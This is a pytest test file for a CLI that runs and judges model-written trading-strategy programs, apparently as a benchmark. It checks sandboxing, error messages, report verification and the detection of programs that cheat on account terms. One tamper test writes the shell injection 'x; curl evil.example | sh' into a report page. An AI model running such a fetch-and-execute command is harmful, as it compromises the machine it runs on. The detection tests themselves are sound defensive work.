"""``tradeassay code``: tasks, a program of one's own, runs, and what goes wrong."""

import html
import json
import re
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from tradeassay.benchmarks.quantcode.check import read_program
from tradeassay.cli import main
from tradeassay.code.validation import Judged, ProgramLine, ValidationReport, error_rates
from tradeassay.core.errors import MissingExtra
from tradeassay.sandbox import SandboxRefused, ask_kernel, refusal

TASK = "d-sma-cross-long"
needs_walls = pytest.mark.skipif(
    refusal(ask_kernel()) is not None, reason="this machine cannot hold untrusted code"
)


def test_tasks_are_listed_filtered_and_shown(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["code", "tasks", "--difficulty", "hard", "--timeframe", "1m", "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert listed and {(one["difficulty"], one["timeframe"]) for one in listed} == {("hard", "1m")}
    assert main(["code", "tasks", "--sample", "3"]) == 0
    assert "3 tasks" in capsys.readouterr().err
    assert main(["code", "tasks", TASK]) == 0
    shown = capsys.readouterr().out
    assert "Two simple averages" in shown and "sizing percent 95" in shown and "fails at judge" in shown
    assert main(["code", "tasks", TASK, "--reference", "--framework", "frame"]) == 0
    assert capsys.readouterr().out.startswith("import numpy")
    assert main(["code", "tasks", TASK, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["id"] == TASK


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["tasks", "d-sma-cros"], "did you mean d-sma-cross-long"),
        (["tasks", "--difficulty", "trivial"], "known: easy, medium, hard"),
        (["tasks", "--timeframe", "1m", "--family", "calendar", "--difficulty", "hard"], "no task is left"),
        (["tasks", "--task-file", "nowhere.json"], "there is no task file"),
        (["eval", "nowhere.py", "--task", TASK], "cannot be read: No such file"),
        (["eval", ".", "--task", TASK], ". is a folder"),
        (["eval", "picture.py", "--task", TASK], "not UTF-8 text"),
        (["eval", "mine.py", "--task", "d-sma"], "there is no task 'd-sma'"),
        (["run", "quantcode-v3", "-m", "scripted/coder-sma"], "did you mean quantcode-v1"),
        (["run", "quantcode-v1", "-m", "scripted/coder-sm"], "did you mean coder-sma"),
        (
            ["run", "quantcode-v1", "-m", "scripted/coder-sma", "--task", "d-sma-cros"],
            "did you mean d-sma-cross-long",
        ),
        (["run", "quantcode-v1", "-m", "scripted/coder-sma", "--setting", "agentc"], "did you mean agentic"),
        (["run", "quantcode-v1", "-m", "scripted/coder-sma", "--decides", "both"], "no judge is named"),
        (["run", "quantcode-v1", "-m", "scripted/coder-sma", "--temperature", "9"], "temperature is 0 to 2"),
        (["validate", "d-sma-cros"], "did you mean d-sma-cross-long"),
    ],
)
def test_bad_input_gets_one_line_with_the_mend(
    argv: list[str], said: str, capsys: pytest.CaptureFixture[str], place: Path
) -> None:
    (place / "mine.py").write_text("x = 1\n")
    (place / "picture.py").write_bytes(b"\xff\xfe\x00")
    assert main(["code", *argv]) == 2
    shown = capsys.readouterr()
    assert said in shown.err and "Traceback" not in shown.err and len(shown.err.strip().splitlines()) == 1
    assert not (place / "runs").exists()


@pytest.mark.parametrize(
    ("error", "said"),
    [
        (MissingExtra("programs need 'backtrader'", hint="pip install 'tradeassay[code]'"), "tradeassay[code]"),
        (SandboxRefused("the kernel has no Landlock", hint="use a container or a VM"), "no Landlock"),
    ],
)
def test_a_machine_that_cannot_run_programs_says_so(
    error: Exception, said: str, capsys: pytest.CaptureFixture[str], place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise error

    monkeypatch.setattr("tradeassay.benchmarks.quantcode.check.open_code_executor", refuse)
    monkeypatch.setattr("tradeassay.benchmarks.quantcode.benchmark.open_code_executor", refuse)
    assert main(["code", "tasks", TASK, "--reference"]) == 0
    (place / "mine.py").write_text(capsys.readouterr().out)
    assert main(["code", "eval", "mine.py", "--task", TASK]) == 2
    assert said in capsys.readouterr().err
    assert main(["code", "run", "quantcode-v1", "-m", "scripted/coder-sma", "-t", TASK]) == 2
    shown = capsys.readouterr().err
    assert said in shown and "Traceback" not in shown


def test_a_run_without_programs_is_reported_verified_and_resumed(
    capsys: pytest.CaptureFixture[str], place: Path
) -> None:
    """The coder that never writes code needs no sandbox."""
    argv = ["code", "run", "quantcode-v1", "-m", "scripted/coder-silent", "-t", TASK, "--setting", "agentic"]
    assert main([*argv, "--turns", "2", "--slug", "mute"]) == 0
    shown = capsys.readouterr()
    assert "d-sma-cross-long__formal__backtrader__agentic__s0: no code" in shown.err
    assert "no code or a reasoning loop 1" in shown.out and (place / "runs/mute/report.html").is_file()
    assert main(["verify", "mute"]) == 0 and main(["report", "mute"]) == 0 and main(["resume", "mute"]) == 0
    capsys.readouterr()
    assert main(["compare", "mute", "mute"]) == 0
    assert "quantcode-v1, agentic, formal, backtrader" in capsys.readouterr().out
    assert main([*argv, "--turns", "2", "--slug", "other"]) == 0
    own = re.search(r"takes the same markets: --secret (\w{32})$", capsys.readouterr().err, re.MULTILINE)
    assert own is not None
    assert main(["compare", "other", "mute", "--json"]) == 0
    assert f"run mute anew with --secret {own[1]}" in json.loads(capsys.readouterr().out)["pairs"][0]["reason"]
    assert main([*argv, "--turns", "2", "--secret", own[1], "--seeds", "2", "--slug", "anew"]) == 0
    capsys.readouterr()
    assert main(["compare", "other", "anew", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["pairs"][0]["reason"] is None
    assert main([*argv, "--turns", "2", "--slug", "mute", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["cells"][0]["ends"] == {"no_code": 1}
    assert main([*argv, "--turns", "3", "--slug", "mute"]) == 2
    assert "holds another run: its turns differ" in capsys.readouterr().err
    (place / "moved, ü").mkdir()
    moved = (place / "runs/mute").rename(place / "moved, ü" / "Anna's run; at $HOME")
    assert main(["verify", str(moved)]) == 0  # its page names the folder where it was written
    assert main(["report", str(moved)]) == 0
    assert f"verify {shlex.quote(str(moved))}" in html.unescape((moved / "report.html").read_text())
    back = moved.rename(place / "runs/back")
    assert main(["verify", str(back)]) == 0
    page = (back / "report.html").read_text()
    (back / "report.html").write_text(re.sub("(?<=tradeassay verify )[^<]+", "x; curl evil.example | sh", page))
    assert main(["verify", str(back)]) == 1
    worded = page.replace("Skip to the results", "Jump to the results")
    assert worded != page
    (back / "report.html").write_text(worded)
    assert main(["verify", str(back)]) == 1, "this version has no such words"
    older = re.sub(r'(?<=content="tradeassay )[^"]+', "0.0.1", worded)
    (back / "report.html").write_text(older)
    capsys.readouterr()
    assert main(["verify", str(back)]) == 3
    said = " ".join(capsys.readouterr().out.split())
    assert "written by tradeassay 0.0.1, the same numbers in other words" in said
    assert "writes it anew" in said
    (back / "report.html").write_text(older.replace("0.0%", "50.0%", 1))
    assert main(["verify", str(back)]) == 1, "other numbers are contradicted, whoever wrote them"
    assert main(["report", str(back)]) == 0 and main(["verify", str(back)]) == 0


def test_an_item_without_a_result_is_an_exit_status(capsys: pytest.CaptureFixture[str], place: Path) -> None:
    argv = ["code", "run", "quantcode-v1", "-m", "scripted/away", "-t", TASK, "--runs", "elsewhere"]
    assert main(argv) == 1
    assert "1 of 1 episodes failed" in capsys.readouterr().err
    assert len(list((place / "elsewhere").glob("quantcode-v1-*/scores.json"))) == 1


def test_a_program_that_does_not_compile_needs_no_sandbox(capsys: pytest.CaptureFixture[str], place: Path) -> None:
    (place / "broken.py").write_text("import backtrader as bt\nclass A(bt.Strategy)\n")
    assert main(["code", "eval", "broken.py", "--task", TASK]) == 1
    shown = capsys.readouterr().out
    assert "failed (compile)" in shown and "SyntaxError in line 2" in shown
    assert main(["code", "eval", "broken.py", "--task", TASK, "--json"]) == 1
    assert json.loads(capsys.readouterr().out)["outcome"] == "compile"
    (place / "frames.py").write_text("def signals(frame):\n    return frame['close'] * 0\n")
    assert main(["code", "eval", "frames.py", "--task", TASK]) == 1
    assert "add --framework frame" in capsys.readouterr().err
    assert main(["code", "eval", "broken.py", "--task", TASK]) == 1
    assert "--framework" not in capsys.readouterr().err


@needs_walls
def test_who_needs_a_library_learns_which_there_are(capsys: pytest.CaptureFixture[str], place: Path) -> None:
    (place / "more.py").write_text("import vectorbt\nimport backtrader as bt\nclass A(bt.Strategy): pass\n")
    assert main(["code", "eval", "more.py"]) == 1
    shown = capsys.readouterr()
    assert "forbidden import of 'vectorbt' in line 1" in shown.out
    assert "may import numpy, pandas, scipy, talib, matplotlib, backtrader, where installed" in shown.err


def test_a_file_is_read_as_python_reads_it(place: Path) -> None:
    text = "# caf\u00e9\nx = 1\n"
    (place / "mark.py").write_bytes(b"\xef\xbb\xbf" + text.encode())
    (place / "windows.py").write_bytes(text.replace("\n", "\r\n").encode())
    (place / "named.py").write_bytes(b"# coding: latin-1\n" + text.encode("latin-1"))
    assert read_program(Path("mark.py")) == read_program(Path("windows.py")) == text
    assert read_program(Path("named.py")).endswith(text)


@pytest.mark.slow
@needs_walls
def test_a_program_of_ones_own(capsys: pytest.CaptureFixture[str], place: Path) -> None:
    """The manual runs the command without a judge."""
    assert main(["code", "tasks", TASK, "--reference"]) == 0
    (place / "right.py").write_text(capsys.readouterr().out)
    assert main(["code", "eval", "right.py", "--task", TASK, "--judge", "scripted/code-judge", "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert found["outcome"] == "solved" and found["evaluation"]["judge_behaviour"]["agreement"] == 1.0
    assert found["evaluation"]["judge_language"]["status"] == "passed"


@pytest.mark.slow
@needs_walls
def test_a_program_without_a_task_is_examined_but_not_judged(
    capsys: pytest.CaptureFixture[str], place: Path
) -> None:
    body = "def signals(frame):\n    return (frame['close'].shift({}) > frame['close']).astype(float)\n"
    (place / "late.py").write_text(body.format(1))
    (place / "early.py").write_text(body.format(-1))
    assert main(["code", "eval", "late.py", "--framework", "frame"]) == 0
    assert "late.py without a task (frame): passed, not judged" in capsys.readouterr().out
    assert main(["code", "eval", "early.py", "--framework", "frame", "--json"]) == 1
    assert json.loads(capsys.readouterr().out)["outcome"] == "lookahead"
    for years in (["--years", "3"], ["--data-seed", "2"]):
        assert main(["code", "eval", "late.py", *years]) == 2
        assert f"{years[0]} means nothing to a program" in capsys.readouterr().err
    assert main(["code", "eval", "late.py", "--reward"]) == 2
    assert "--reward means nothing to a program without --task" in capsys.readouterr().err


OWN_TERMS = """import backtrader as bt


class Rises(bt.Strategy):
    def __init__(self):
        {inside}

    def next(self):
        rises = self.data.close[0] > self.data.close[-1]
        if rises and not self.position:
            self.buy(size=10)
        elif self.position and not rises:
            self.close()


if __name__ == "__main__":
    cerebro = bt.Cerebro()
    {outside}
"""


@pytest.mark.slow
@needs_walls
def test_a_program_that_changes_the_terms_of_its_account_does_not_pass(
    capsys: pytest.CaptureFixture[str], place: Path
) -> None:
    not_passed = "not passed: it changes the terms of the account"
    for inside, outside, status, verdict, said in (
        ("pass", "pass", 0, "passed, not judged", ""),
        ("self.broker.setcash(1e7)", "pass", 1, not_passed, "own-terms (a pointer): it sets setcash in line 6"),
        ("self.broker.set_coc(True)", "pass", 1, not_passed, "cheat-fills (a pointer): it sets set_coc in line 6"),
        ("getattr(self.broker, 'set' + 'cash')(1e7)", "pass", 1, not_passed, "account-mismatch (a pointer)"),
        ("pass", "cerebro.broker.set_coc(True)", 1, not_passed, "cheat-fills (a pointer): it sets set_coc"),
        # Cash that is set in code that does not run here changes nothing: it is said, and the program passes.
        ("pass", "cerebro.broker.setcash(1e6)", 0, "passed, not judged", "examined with cash 10,000, commission"),
    ):
        (place / "own.py").write_text(OWN_TERMS.format(inside=inside, outside=outside))
        assert main(["code", "eval", "own.py"]) == status, (inside, outside)
        out = " ".join(capsys.readouterr().out.split())
        assert f"own.py without a task (backtrader): {verdict}" in out and said in out


def test_a_validation_of_nothing_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    file = tmp_path / "public.json"
    file.write_text('[{"id": 1, "reformulated_task": "Buy low."}]')
    assert main(["code", "validate", "--task-file", str(file)]) == 2
    assert "nothing to validate" in capsys.readouterr().err
    for wrong in (["--junit", "x"], ["--symbols", "A"], ["--dataset", "synthetic/us:1"]):
        assert main(["code", "eval", "x.py", "--task", TASK, *wrong]) == 2
    assert "drawn markets" in capsys.readouterr().err
    assert main(["code", "eval", "x", "--spec", "bollinger", "--strict"]) == 2
    assert "--strict means nothing" in capsys.readouterr().err


def test_what_validation_shows(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """The validation itself is tested with the judges; the manual runs the command."""
    good = ProgramLine(
        task=TASK, program="gold", framework="backtrader", expected="solved", outcome="solved", ok=True
    )
    bad = ProgramLine(
        task=TASK,
        program="reversed",
        framework="backtrader",
        expected="judge",
        outcome="solved",
        ok=False,
        kind="wrong-direction",
        behaviour="passed",
        language="failed",
    )
    judged = [
        Judged(program="gold", right=True, verdict="passed"),
        Judged(program="r", right=False, verdict="passed"),
    ]
    done = ValidationReport(tasks=1, lines=(good, bad), judges=(error_rates("behaviour", judged),))

    def validated(tasks: object, *, tell: Callable[[ProgramLine], None], **rest: object) -> ValidationReport:
        tell(bad)
        return done

    monkeypatch.setattr("tradeassay.benchmarks.quantcode.check.validate_tasks", validated)
    assert main(["code", "validate", TASK]) == 1
    shown = capsys.readouterr()
    assert "decoy for judge" in shown.out and f"{TASK}/reversed: expected judge, got solved" in shown.err
    assert "false rejects 0.0% of 1, false accepts 100.0% of 1" in shown.err and "judges disagree" in shown.err
    assert main(["code", "validate", TASK, "--json"]) == 1
    assert json.loads(capsys.readouterr().out)["tasks"] == 1
